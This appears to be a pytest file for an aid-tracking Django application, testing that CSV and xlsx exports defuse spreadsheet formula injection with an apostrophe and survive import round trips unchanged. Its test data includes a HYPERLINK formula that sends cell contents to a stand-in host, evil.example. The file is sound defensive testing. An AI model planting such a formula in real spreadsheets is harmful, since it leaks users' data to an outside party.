"""Exports neutralise formula injection (OWASP): text beginning with =, +, -,
@, a tab or a carriage return is written with an apostrophe before it, in
the bundle's CSV, its .xlsx (as text, never as a formula) and the record
lists' CSV downloads; text beginning with an apostrophe gets a second one;
the importer removes one. The round trip stays byte-identical."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest

from aidtracker.lib.columns import NUMBER, TEXT, cell
from deployments.models import Person
from hospitals.models import Hospital
from interchange.exporter import export_bundle
from outcomes.models import Surgery, Trainee, Training

from .conftest import append, run
from .test_export import empty_database

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Details")'

# Rows as a coordinator types them; what is stored, by the apostrophe rule.
ROWS = {
    "surgeries.csv": [
        '-S-1,2024-03-12,LS-PEOPLES,general_surgery,"' + HYPERLINK.replace('"', '""') + '",2,open,local,,,,success,',
        "S-P,2024-03-12,LS-PEOPLES,general_surgery,+Plus,2,open,local,,,,success,",
        "S-A,2024-03-12,LS-PEOPLES,general_surgery,@SUM(1),2,open,local,,,,success,",
        "S-T,2024-03-12,LS-PEOPLES,general_surgery,'\tTab first,2,open,local,,,,success,",
        "S-Q,2024-03-12,LS-PEOPLES,general_surgery,''Quoted,2,open,local,,,,success,",
        "S-R,2024-03-12,LS-PEOPLES,general_surgery,'=1+1,2,open,local,,,,success,",
    ],
    "trainings.csv": [
        "TR-9,LS-D-099,-Minus Dolma,LS-PEOPLES,general_surgery,doctor,onsite_course,,BJ-LHASA,"
        "2024-03-01,2024-03-05,12,completed,,\"'\rCR first\"",
    ],
}
STORED = {
    "-S-1": HYPERLINK, "S-P": "+Plus", "S-A": "@SUM(1)", "S-T": "\tTab first", "S-Q": "'Quoted", "S-R": "=1+1",
}


@pytest.fixture
def imported(example):
    for name, rows in ROWS.items():
        append(example, name, *rows)
    report = run(example)
    assert report.ok, [str(e) for e in report.errors]
    return example


def test_what_a_coordinator_types_is_stored_without_the_apostrophe(imported):
    assert {s.ref: s.procedure for s in Surgery.objects.filter(ref__in=STORED)} == STORED
    assert Training.objects.get(ref="TR-9").skill == "\rCR first"
    assert Trainee.objects.get(code="LS-D-099").name == "-Minus Dolma"


def csv_cells(path):
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))


def test_the_bundle_csv_writes_an_apostrophe_before_text_that_begins_like_a_formula(imported, tmp_path):
    folder = export_bundle(tmp_path / "out")
    surgeries = {row[0]: row for row in csv_cells(folder / "surgeries.csv")}
    assert surgeries["'-S-1"][4] == "'" + HYPERLINK
    assert surgeries["S-P"][4] == "'+Plus"
    assert surgeries["S-A"][4] == "'@SUM(1)"
    assert surgeries["S-T"][4] == "'\tTab first"
    assert surgeries["S-Q"][4] == "''Quoted"
    assert surgeries["S-R"][4] == "'=1+1"
    assert surgeries["S-2024-0001"][4] == "Laparoscopic cholecystectomy"  # other text as it is
    trainings = {row[0]: row for row in csv_cells(folder / "trainings.csv")}
    assert trainings["TR-9"][2] == "'-Minus Dolma" and trainings["TR-9"][14] == "'\rCR first"


def test_the_xlsx_export_writes_text_as_text_never_as_a_formula(imported, tmp_path):
    path = export_bundle(tmp_path / "out.xlsx")
    workbook = openpyxl.load_workbook(path)  # not read-only: each cell's type
    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
    assert cells and all(c.data_type == "s" for c in cells if c.value is not None)
    procedures = [row[4].value for row in workbook["surgeries"].iter_rows(min_row=2)]
    assert "'" + HYPERLINK in procedures and "''Quoted" in procedures


@pytest.mark.parametrize("name", ["bundle", "bundle.zip", "bundle.xlsx"])
def test_values_that_look_like_formulas_survive_the_round_trip_byte_for_byte(imported, tmp_path, name):
    first = export_bundle(tmp_path / "one" / name)
    empty_database()
    report = run(first)
    assert report.ok, [str(e) for e in report.errors]
    assert {s.ref: s.procedure for s in Surgery.objects.filter(ref__in=STORED)} == STORED
    assert Trainee.objects.get(code="LS-D-099").name == "-Minus Dolma"
    second = export_bundle(tmp_path / "two" / name)
    if first.is_dir():
        for path in first.iterdir():
            assert path.read_bytes() == (second / path.name).read_bytes(), path.name
    else:
        assert first.read_bytes() == second.read_bytes()


def test_a_record_lists_csv_download_writes_the_same_apostrophes(admin_client, imported):
    response = admin_client.get("/surgeries/export.csv")
    rows = {row[0]: row for row in csv.reader(io.StringIO(b"".join(response.streaming_content).decode()))}
    assert rows["'-S-1"][4] == "'" + HYPERLINK and rows["S-Q"][4] == "''Quoted"
    trainings = admin_client.get("/trainings/export.csv")
    rows = {row[0]: row for row in csv.reader(io.StringIO(b"".join(trainings.streaming_content).decode()))}
    assert rows["TR-9"][2] == "'-Minus Dolma"


def test_numbers_dates_and_plain_text_are_written_as_they_are():
    assert cell(Decimal("-5"), NUMBER) == "-5" and cell(-12, NUMBER) == "-12"
    assert cell("-5") == "'-5"  # text that begins with a minus is text
    assert cell("Dolma") == "Dolma" and cell("") == "" and cell(None, TEXT) == ""
    assert cell("a=b") == "a=b"  # only the first character matters


def test_an_apostrophe_alone_is_an_empty_cell(example):
    append(example, "surgeries.csv", "S-E,2024-03-12,LS-PEOPLES,general_surgery,',2,open,local,',,,success,")
    report = run(example)
    assert [(e.line, e.column, e.value) for e in report.errors] == [(6, "procedure", "'")]
    assert "required" in report.errors[0].message


def test_codes_written_with_an_apostrophe_are_read_without_it(example):
    append(example, "hospitals.csv", "'-LS-NEW,New hospital,,540100,3A,general")
    append(example, "surgeries.csv", "'-S-2,2024-03-12,'-LS-NEW,'general_surgery,x,2,'open,'local,,,,success,")
    assert run(example).ok
    assert Surgery.objects.get(ref="-S-2").hospital == Hospital.objects.get(code="-LS-NEW")
    assert not Person.objects.filter(code__startswith="'").exists()


def test_control_characters_and_what_looks_like_an_escape_survive_an_xlsx_round_trip(example, tmp_path):
    append(
        example, "surgeries.csv",
        'S-V,2024-03-12,LS-PEOPLES,general_surgery,"vertical\x0btab, form\x0cfeed",2,open,local,,,,success,',
        'S-X,2024-03-12,LS-PEOPLES,general_surgery,"_x000D_ is text here, and a CR\r too",2,open,local,,,,success,',
    )
    assert run(example).ok
    stored = {s.ref: s.procedure for s in Surgery.objects.filter(ref__in=["S-V", "S-X"])}
    first = export_bundle(tmp_path / "one.xlsx")  # openpyxl refused \x0b before: IllegalCharacterError
    empty_database()
    assert run(first).ok
    assert {s.ref: s.procedure for s in Surgery.objects.filter(ref__in=["S-V", "S-X"])} == stored
    assert export_bundle(tmp_path / "two.xlsx").read_bytes() == first.read_bytes()
